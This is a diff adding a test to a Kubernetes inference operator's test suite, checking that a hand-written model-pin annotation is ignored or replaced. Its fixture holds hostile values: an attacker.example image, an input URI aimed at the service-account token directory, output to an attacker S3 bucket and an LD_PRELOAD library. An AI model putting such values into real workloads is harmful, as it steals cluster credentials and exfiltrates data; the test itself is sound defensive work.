@@ -13,6 +13,7 @@ from __future__ import annotations
 
 import copy
 import itertools
+import json
 import time
 from collections.abc import Iterator
 from datetime import UTC, datetime
@@ -319,6 +320,47 @@ def test_endpoint_ref_waits_for_the_endpoint_then_pins_its_model(kube: Kube, ns:
     env = {e["name"]: e.get("value") for e in
            workers["spec"]["template"]["spec"]["containers"][0]["env"]}
     assert env["KUBEINFER_MODEL_URI"] == "file://models/iris-v2.onnx"
+
+
+#: A pin written by hand (the audit's): a file:// input on the service-account token, an
+#: output in another bucket, a preloaded library.
+HOSTILE_PIN = json.dumps({
+    "source": "Endpoint iris variant canary: model file://models/iris-v2.onnx",
+    "containers": [{"name": "img", "image": "attacker.example/img:1"}],
+    "env": [{"name": "KUBEINFER_INPUT_URI",
+             "value": "file:///var/run/secrets/kubernetes.io/serviceaccount/"},
+            {"name": "KUBEINFER_OUTPUT_URI", "value": "s3://attacker-bucket/loot/"},
+            {"name": "LD_PRELOAD", "value": "/tmp/x.so"}]})
+
+
+def test_a_hand_written_model_pin_never_runs(kube: Kube, ns: str) -> None:
+    def planner_env(name: str) -> dict[str, Any]:
+        pod = _job(kube, ns, f"{name}-plan")["spec"]["template"]["spec"]
+        assert "initContainers" not in pod
+        return {e["name"]: e.get("value") for e in pod["containers"][0]["env"]}
+
+    # The spec's own model: the annotation is not read at all.
+    own = transform_job("own")
+    own["metadata"]["annotations"] = {ANNOTATION_RESOLVED_MODEL: HOSTILE_PIN}
+    assert kube.create(own, ns).status_code == 201
+    env = planner_env("own")
+    assert (env["KUBEINFER_MODEL_URI"], env["KUBEINFER_INPUT_URI"],
+            env["KUBEINFER_OUTPUT_URI"]) == ("file://models/iris.onnx", "s3://data/in/",
+                                             "s3://data/out/")
+    assert "LD_PRELOAD" not in env
+    # An endpointRef: the refused pin is replaced by the Endpoint's model, pinned again.
+    assert kube.create(copy.deepcopy(ENDPOINT), ns).status_code == 201
+    ref = transform_job("ref", endpointRef={"name": "iris", "variant": "canary"})
+    del ref["spec"]["model"]
+    ref["metadata"]["annotations"] = {ANNOTATION_RESOLVED_MODEL: HOSTILE_PIN}
+    assert kube.create(ref, ns).status_code == 201
+    env = planner_env("ref")
+    assert (env["KUBEINFER_MODEL_URI"], env["KUBEINFER_INPUT_URI"]) == (
+        "file://models/iris-v2.onnx", "s3://data/in/")
+    assert "LD_PRELOAD" not in env
+    obj = kube.get("TransformJob", ns, "ref")
+    assert obj is not None
+    assert "attacker" not in obj["metadata"]["annotations"][ANNOTATION_RESOLVED_MODEL]
 
 
 def test_an_image_model_runs_as_a_native_sidecar_of_each_worker(kube: Kube, ns: str) -> None:
